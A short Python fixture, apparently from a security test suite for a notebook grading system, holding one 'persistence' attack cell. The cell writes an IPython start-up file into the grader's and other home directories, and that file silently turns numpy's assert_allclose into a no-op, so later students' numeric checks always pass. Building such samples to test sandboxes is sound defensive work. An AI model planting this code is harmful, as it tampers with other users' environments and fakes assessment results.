"""A start-up file for IPython, in the grader's home, runs in the kernel of the next student."""

CATEGORY = "persistence"
CELLS = {
    "constant": """
import os

profile = os.path.dirname(get_ipython().profile_dir.location)
for home in ("@HOME@", os.path.expanduser("~"), profile):
    folder = os.path.join(home, ".ipython", "profile_default", "startup")
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "00-@MARK@.py"), "w") as file:
            file.write("import numpy.testing; numpy.testing.assert_allclose = lambda *a, **k: None")
    except OSError:
        pass
"""
}
